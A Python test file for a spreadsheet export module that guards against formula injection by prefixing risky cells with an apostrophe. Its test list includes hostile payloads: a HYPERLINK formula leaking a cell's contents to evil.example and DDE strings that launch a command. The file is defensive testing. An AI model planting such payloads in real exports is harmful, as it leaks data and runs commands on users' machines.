"""The one spreadsheet writer (core/csvexport.py): formula-looking text is neutralised, Excel's
Indonesian format by default, and no other module writes CSV or XLSX by itself."""

import csv
import datetime as dt
import io
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook

from desabinaan.core.csvexport import FORMULA_STARTS, safe_cell, write_csv, xlsx_bytes

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "-2+3+cmd|' /C calc'!A0",
    "+62 812",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def is_safe(value) -> bool:
    return not (isinstance(value, str) and value.startswith(FORMULA_STARTS))


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_looking_text_gets_an_apostrophe(value):
    assert safe_cell(value) == "'" + value


def test_plain_values_pass_unchanged():
    assert safe_cell("Desa Mandurian") == "Desa Mandurian"
    assert safe_cell(None) == ""
    assert safe_cell(-3) == -3  # a number is a value, not a formula
    assert safe_cell(dt.date(2026, 1, 2)) == "2026-01-02"


def test_csv_is_excel_indonesian_by_default_and_plain_on_request():
    excel = io.StringIO()
    write_csv(excel, ["Nama", "Kode"], [["a;b", 1]])
    assert excel.getvalue().startswith("\ufeffNama;Kode\r\n")
    assert '"a;b";1' in excel.getvalue()
    plain = io.StringIO()
    write_csv(plain, ["Nama", "Kode"], [["a;b", 1]], excel=False)
    assert plain.getvalue() == "Nama,Kode\r\na;b,1\r\n"


def test_csv_cells_are_neutralised():
    out = io.StringIO()
    write_csv(out, HOSTILE, [HOSTILE])
    rows = list(csv.reader(io.StringIO(out.getvalue().lstrip("\ufeff")), delimiter=";"))
    assert all(is_safe(cell) for row in rows for cell in row)


def test_xlsx_cells_are_text_not_formulas():
    book = load_workbook(io.BytesIO(xlsx_bytes(HOSTILE, [HOSTILE, [1, "x"]])))
    cells = [c for row in book.active.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    assert all(is_safe(c.value) for c in cells)


def test_no_module_writes_csv_or_xlsx_by_itself():
    """Every export goes through core/csvexport.py, so none can forget the neutralising."""
    root = Path(__file__).resolve().parent.parent / "desabinaan"
    writer = re.compile(r"csv\.(writer|DictWriter)\(|Workbook\(|\.save_workbook\(")
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if path.name != "csvexport.py" and writer.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
